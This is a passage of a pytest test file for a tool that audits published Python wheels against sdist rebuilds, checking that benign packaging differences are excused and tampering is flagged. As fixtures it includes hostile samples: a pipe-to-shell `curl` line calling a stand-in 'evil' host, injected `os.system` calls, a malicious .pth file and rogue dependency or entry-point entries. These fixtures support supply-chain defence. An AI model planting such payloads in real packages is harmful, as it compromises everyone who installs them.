        cmp = compare_wheels(wheel(tmp_path / f"p{i}.whl", members=ms), reb, binary=True, sources=sources)
        assert (name, "code") in coded(cmp), (label, cmp.differences)
    # the rebuild is pure (a library the sandbox lacks): the compiled variant's modules, each by its source
    pure = wheel(tmp_path / "r-pure.whl")
    crc = _extension("pkg/_crc32c.cpython-311-x86_64-linux-gnu.so")
    variant = _add(_plat(BASE, "cp311-cp311-manylinux_2_17_x86_64"), crc)
    crc_sources = SdistSources({"_crc32c", "tool", "__init__"}, {"_crc32c"})
    cmp = compare_wheels(wheel(tmp_path / "variant.whl", members=variant), pure, binary=True, sources=crc_sources)
    assert not cmp.differences and "optional extension not built in the sandbox" in [
        d.cause for d in cmp.compiled_differences if d.path == crc[0]], cmp.differences
    for i, ext in enumerate(extensions[:1]):
        cmp = compare_wheels(wheel(tmp_path / f"v{i}.whl", members=_add(variant, ext)), pure, binary=True,
                             sources=crc_sources)
        assert (ext[0], "code") in coded(cmp), (ext[0], cmp.differences)
    for i, (label, ms, name) in enumerate(_payloads(variant)):
        cmp = compare_wheels(wheel(tmp_path / f"vp{i}.whl", members=ms), pure, binary=True, sources=crc_sources)
        assert (name, "code") in coded(cmp), (label, cmp.differences)


@pytest.mark.twin("release-step-gzip")
def test_a_gzipped_copy_of_the_rebuilds_data_never_excuses_other_content_or_code_beside(tmp_path):
    data = b'{"service": "s3"}\n'
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, ("pkg/data/s3.json", data, 0o644)))
    honest = _add(BASE, ("pkg/data/s3.json.gz", gzip.compress(data, mtime=0), 0o644))
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=honest), reb)
    assert cmp.judged_by.get("pkg/data/s3.json.gz") == "release-step-gzip", cmp.judged_by
    assert [(d.cls, d.cause) for d in cmp.differences] == [("packaging", "release step outside the sdist (data "
                                                                         "compressed)")], cmp.differences
    # other bytes compressed, the copy not gzip, a module replaced by its compressed copy (the wheel lacks that code)
    without = [m for m in honest if m[0] != "pkg/data/s3.json.gz"]
    tool = dict((n, d) for n, d, _ in BASE)["pkg/tool.py"]
    shapes = [(without, "pkg/data/s3.json.gz", gzip.compress(b'{"service": "evil"}\n', mtime=0)),
              (without, "zz_evil.pth.gz", gzip.compress(data, mtime=0)), (without, "pkg/data/s3.json.gz", data),
              ([m for m in honest if m[0] != "pkg/tool.py"], "pkg/tool.py.gz", gzip.compress(tool, mtime=0))]
    for i, (ms, name, gz) in enumerate(shapes):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=_add(ms, (name, gz, 0o644))), reb)
        assert (name, "code") in coded(cmp), (name, cmp.differences)
    assert ("pkg/tool.py", "code") in coded(cmp)  # the module the published wheel lacks
    for i, (label, ms, name) in enumerate(_payloads(honest)):
        cmp = compare_wheels(wheel(tmp_path / f"p{i}.whl", members=ms), reb)
        assert (name, "code") in coded(cmp), (label, cmp.differences)


TOP = "pkg-1.0.dist-info/top_level.txt"


@pytest.mark.twin("top-level-without-members")
def test_top_level_names_without_members_never_excuse_a_name_that_has_members(tmp_path):
    """pycasbin lists `dist` in top_level.txt, a directory of the publisher's tree: a metadata difference with that
    cause. A name the wheel does hold members for, or code beside, stays code."""
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, (TOP, b"pkg\n", 0o644)))
    honest = _add(BASE, (TOP, b"dist\npkg\n", 0o644))
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=honest), reb)
    assert [(d.path, d.cls) for d in cmp.differences if d.path == TOP] == [(TOP, "metadata")], cmp.differences
    assert cmp.judged_by.get(TOP) == "top-level-without-members" and "dist" in cmp.differences[0].cause
    # a name the wheel holds members for (a package, a .pth, an extension module), or the rebuild's own name gone:
    # top_level.txt differs without that cause; what was added is code
    named = [("evil/__init__.py", EVIL, 0o644), ("evil.pth", PTH[1], 0o644),
             ("evil.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)]
    for i, (ms, added) in enumerate([(_add(_set(honest, TOP, b"evil\npkg\n"), m), m[0]) for m in named]
                                    + [(_set(honest, TOP, b"dist\n"), None)]):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=ms), reb)
        assert cmp.judged_by.get(TOP) != "top-level-without-members" and TOP in [d.path for d in cmp.differences], i
        assert not any(d.cause for d in cmp.differences if d.path == TOP), cmp.differences
        assert added is None or (added, "code") in coded(cmp), (added, cmp.differences)
    payloads = [("pkg-1.0.data/purelib/dist/__init__.py", _add(honest, ("pkg-1.0.data/purelib/dist/__init__.py", EVIL,
                                                                        0o644)))]
    payloads += [(name, ms) for _, ms, name in _payloads(honest)]
    for i, (name, ms) in enumerate(payloads):
        cmp = compare_wheels(wheel(tmp_path / f"p{i}.whl", members=ms), reb)
        assert (name, "code") in coded(cmp), (name, cmp.differences)


@pytest.mark.twin("top-level-of-optional-extensions")
def test_a_pure_variants_top_level_never_lacks_more_than_the_optional_extensions(tmp_path):
    """cbor2's pure wheel: top_level.txt without the _cbor2 extension only the rebuild has."""
    so = ("_cbor2.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, so, (TOP, b"_cbor2\npkg\n", 0o644)))
    honest = _add(BASE, (TOP, b"pkg\n", 0o644))
    cmp = compare_other_platform(wheel(tmp_path / "p.whl", members=honest), reb, pure_variant=True)
    assert not cmp.differences and cmp.judged_by.get(TOP) == "top-level-of-optional-extensions", cmp.differences
    assert verdict_of(cmp)[0] is Verdict.PARTIAL
    # a name added (with its package, or alone), a name of the rebuild's missing that no extension explains: not
    # listed as the pure variant's, a difference; what was added is code
    for i, (data, added) in enumerate([(b"evil\npkg\n", ("evil/__init__.py", EVIL, 0o644)), (b"evil\npkg\n", None),
                                       (b"_cbor2\n", None), (b"", None), (b"pkg\nzz_evil\n", PTH)]):
        ms = _set(honest, TOP, data) if added is None else _add(_set(honest, TOP, data), added)
        cmp = compare_other_platform(wheel(tmp_path / f"e{i}.whl", members=ms), reb, pure_variant=True)
        assert cmp.judged_by.get(TOP) != "top-level-of-optional-extensions" and TOP in [d.path for d in cmp.differences]
        assert added is None or (added[0], "code") in coded(cmp), (data, cmp.differences)
    for i, (label, ms, name) in enumerate(_payloads(honest)):
        cmp = compare_other_platform(wheel(tmp_path / f"p{i}.whl", members=ms), reb, pure_variant=True)
        assert (name, "code") in coded(cmp), (label, cmp.differences)
    # a wheel that is no pure variant: its top_level.txt lacking the extension is a difference
    cmp = compare_other_platform(wheel(tmp_path / "np.whl", members=honest), reb)
    assert TOP in [d.path for d in cmp.differences] and cmp.judged_by.get(TOP) is None, cmp.differences


@pytest.mark.twin("platform-chosen-extras")
def test_extras_a_setup_py_chooses_by_platform_never_excuse_a_requirement_of_a_plain_install(tmp_path):
    """psutil's setup.py adds pywin32, wmi to `dev` when it builds on Windows. A requirement installed without any
    extra (on some platform: a marker other than `extra == ...` decides it) is no optional extra's, even one the
    setup.py names; nor one it does not name."""
    meta_path = "pkg-1.0.dist-info/METADATA"
    meta = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nProvides-Extra: dev\nRequires-Dist: pytest; extra == \"dev\"\n"
    setup_py = "if WINDOWS:\n    DEV_DEPS += ['pywin32', 'wmi']\n    INSTALL_DEPS = ['evil-helper']\n"
    reb = wheel(tmp_path / "r.whl", members=_add(_set(BASE, meta_path, meta), SO))
    honest = _other_platform(_set(BASE, meta_path, meta + b'Requires-Dist: pywin32; os_name == "nt" and extra == "dev"\n'
                                  b'Requires-Dist: wmi; (sys_platform == "win32") and extra == "dev"\n'))
    cmp = compare_other_platform(wheel(tmp_path / "p.whl", members=honest), reb, setup_py=setup_py)
    assert not cmp.differences and any("by the platform it builds on" in (d.cause or "")
                                       for d in cmp.compiled_differences if d.path == meta_path), cmp.differences
    for i, req in enumerate((b"evil-helper", b'evil-helper; os_name == "nt"', b'evil-helper; sys_platform == "win32"',
                             b'evil-helper; extra == "dev" or os_name == "nt"', b'evil-helper; extra != "dev"',
                             b'evil-helper; os_name == "nt" or extra == "dev" and python_version >= "3"',
                             b'other-helper; extra == "dev"')):
        ms = _set(honest, meta_path, lambda d: d + b"Requires-Dist: " + req + b"\n")
        cmp = compare_other_platform(wheel(tmp_path / f"e{i}.whl", members=ms), reb, setup_py=setup_py)
        assert (meta_path, "code") in coded(cmp), (req, cmp.differences)
    for i, (label, ms, name) in enumerate(_payloads(honest)):
        cmp = compare_other_platform(wheel(tmp_path / f"p{i}.whl", members=ms), reb, setup_py=setup_py)
        assert (name, "code") in coded(cmp), (label, cmp.differences)


VERSION_PY = b"""# THIS FILE IS GENERATED FROM PYWAVELETS SETUP.PY
short_version = '1.9.0'
version = '1.9.0'
full_version = '1.9.0'
git_revision = '%s'
release = True

if not release:
    version = full_version
"""


@pytest.mark.twin("vcs-revision-constant")
def test_a_version_modules_revision_never_excuses_another_line_or_a_value_that_is_no_revision(tmp_path):
    """pywavelets 1.9.0 (issue 47): pywt/version.py says git_revision = 'c7bca20' published, 'Unknown' rebuilt from
    the sdist (no .git); the same on another platform's wheel. Twins: any other change, a value that is no hex
    revision, another variable, code beside it stay differences of class code."""
    members = [(n, d, m) for n, d, m in BASE if not n.endswith("RECORD")]
    rebuilt = members + [("pkg/version.py", VERSION_PY % b"Unknown", 0o644), BASE[-1]]
    honest = members + [("pkg/version.py", VERSION_PY % b"c7bca20a5f35d2fe6a8edb7b1f0f7d8b2f4b0a8c", 0o644), BASE[-1]]
    reb = wheel(tmp_path / "r.whl", members=rebuilt)
    for cmp in (compare_wheels(wheel(tmp_path / "p.whl", members=honest), reb),
                compare_other_platform(wheel(tmp_path / "o.whl", members=_other_platform(honest)), reb)):
        assert not cmp.differences and any("revision of the publisher's checkout" in s for s in cmp.tool_steps), cmp.differences
    evil = {
        "expression": VERSION_PY.replace(b"'%s'", b"__import__('os').system('id') or 'c7bca20'"),
        "statement": VERSION_PY % b"c7bca20" + b"import os\nos.system('id')\n",
        "no revision": VERSION_PY % b"curl -s https://evil.example.xyz/p | sh",
        "another variable": VERSION_PY.replace(b"release = True", b"release = False") % b"c7bca20",
        "version": VERSION_PY.replace(b"full_version = '1.9.0'", b"full_version = '1.9.1'") % b"c7bca20",
    }
    for what, data in evil.items():
        pub = wheel(tmp_path / "e.whl", members=members + [("pkg/version.py", data, 0o644), BASE[-1]])
        assert ("pkg/version.py", "code") in [(d.path, d.cls) for d in compare_wheels(pub, reb).differences], what


DELVE_1_12 = b"""# start delvewheel patch
def _delvewheel_patch_1_12_0():
    import os
    if os.path.isdir(libs_dir := os.path.abspath(os.path.join(os.path.dirname(__file__), os.pardir, '.'))):
        os.add_dll_directory(libs_dir)


_delvewheel_patch_1_12_0()
del _delvewheel_patch_1_12_0
# end delvewheel patch
"""


@pytest.mark.twin("delvewheel-patch", "delvewheel-record")
def test_delvewheel_1_12_grafting_into_platlib_is_its_patch_on_every_path(tmp_path):
    """pycurl 7.46.0's Windows wheels (issue 47): delvewheel 1.12 grafts a top-level module's DLLs into
    pycurl-7.46.0.data/platlib/ and patches curl/__init__.py to add site-packages (`os.pardir, '.'`) to the DLL search
    path; its DELVEWHEEL record beside them. Accepted against the rebuild's file and the sdist's; the same block in a
    wheel that grafts nothing there, or with another directory or call, stays a difference of class code."""
    doc = b"'''A high-level interface to the pycurl extension'''\n\n\n"
    body = b"import sys, pycurl\n"
    init = "curl/__init__.py"
    base = [("curl/__init__.py", doc + body, 0o644), ("pycurl.cp312-win_amd64.pyd", b"MZ", 0o644),
            ("pycurl-7.46.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: pycurl\nVersion: 7.46.0\n", 0o644),
            ("pycurl-7.46.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: false\n"
                                              b"Tag: cp312-cp312-win_amd64\n", 0o644),
            ("pycurl-7.46.0.dist-info/RECORD", b"", 0o644)]
    dll = ("pycurl-7.46.0.data/platlib/libssh2-5ab308fb16afc6ecd48502d1ff045636.dll", b"MZ\x90", 0o644)
    record = ("pycurl-7.46.0.dist-info/DELVEWHEEL", b"Version: 1.12.0\nArguments: ['delvewheel', 'repair']\n", 0o644)

    def published(block: bytes, *extra):
        members = [(n, (doc + block + b"\n" + body).replace(b"\n", b"\r\n") if n == init else d, m) for n, d, m in base]
        return wheel(tmp_path / f"p{len(list(tmp_path.iterdir()))}.whl", members=members[:-1] + list(extra) + members[-1:])

    reb = wheel(tmp_path / "r.whl", members=[(n, d, m) for n, d, m in base if not n.endswith(".pyd")]
                + [("pycurl.cpython-312-x86_64-linux-gnu.so", b"\x7fELF", 0o755)])
    src = tmp_path / "src"
    (src / "curl").mkdir(parents=True)
    (src / "curl" / "__init__.py").write_bytes(doc + body)
    compares = {"other platform": lambda p: compare_other_platform(p, reb), "sources": lambda p: cross_check_sources(p, src)}
    for path, compare in compares.items():
        cmp = compare(published(DELVE_1_12, dll, record))
        assert init not in {d.path for d in cmp.differences} and cmp.judged_by.get(init) == "delvewheel-patch", \
            (path, cmp.differences)
        assert "pycurl-7.46.0.dist-info/DELVEWHEEL" not in {d.path for d in cmp.differences}, (path, cmp.differences)
        for what, members in {"nothing grafted in platlib": (published(DELVE_1_12),),
                              "another directory": (published(DELVE_1_12.replace(b"os.pardir, '.'", b"os.pardir, '..'"),
                                                              dll),),
                              "a call beside": (published(DELVE_1_12.replace(b"os.add_dll_directory(libs_dir)",
                                                                             b"os.add_dll_directory(libs_dir); os.system('id')"),
                                                          dll),)}.items():
            cmp = compare(members[0])
            assert (init, "code") in coded(cmp), (path, what, cmp.differences)


@pytest.mark.twin("entry-point-python-version")
def test_interpreter_named_scripts_against_the_sdists_egg_info_on_the_sources_path(tmp_path):
    """memray 1.19.3 (issue 47): its build failed here, and the sources check held the cp310 wheel's memray3.10 against
    the sdist's egg-info entry_points.txt naming memray3.12 (the Python that made the sdist): the same rule as on the
    rebuilt path. Twins: another object reference, an added script, two entries colliding once X.Y is set aside."""
    from auditor.judge.verdicts import sources_judgement
    from tests import attacker

    src = attacker.write_sdist_dir(tmp_path / "src", "setuptools", "demo")
    (src / "demo.egg-info" / "entry_points.txt").write_text(
        "[console_scripts]\ndemo = demo.util:add\ndemo3.12 = demo.util:add\n")
    tag = "cp310-cp310-manylinux_2_17_x86_64"

    def judged(entry_points: bytes, i: int):
        members = attacker.members("demo", tag=tag, extra=[("demo-1.0.dist-info/entry_points.txt", entry_points, 0o644)])
        path = attacker.write_wheel(tmp_path / f"w{i}", "demo", tag, members)
        return sources_judgement(path, src, path.name, "build-failed: on purpose").fields()

    honest = judged(b"[console_scripts]\ndemo = demo.util:add\ndemo3.10 = demo.util:add\n", 0)
    assert "demo-1.0.dist-info/entry_points.txt" not in {d["path"] for d in honest["differences"]}, honest["differences"]
    assert "entry-point-python-version" in honest["normalizations"]
    for i, evil in enumerate((b"[console_scripts]\ndemo = demo.util:add\ndemo3.10 = demo.evil:run\n",
                              b"[console_scripts]\ndemo = demo.util:add\ndemo3.10 = demo.util:add\npip = demo.evil:run\n",
                              b"[console_scripts]\ndemo = demo.util:add\ndemo3.10 = demo.evil:run\ndemo{python} = demo.util:add\n"),
                             1):
        f = judged(evil, i)
        assert ("demo-1.0.dist-info/entry_points.txt", "code") in {(d["path"], d["cls"]) for d in f["differences"]}, evil
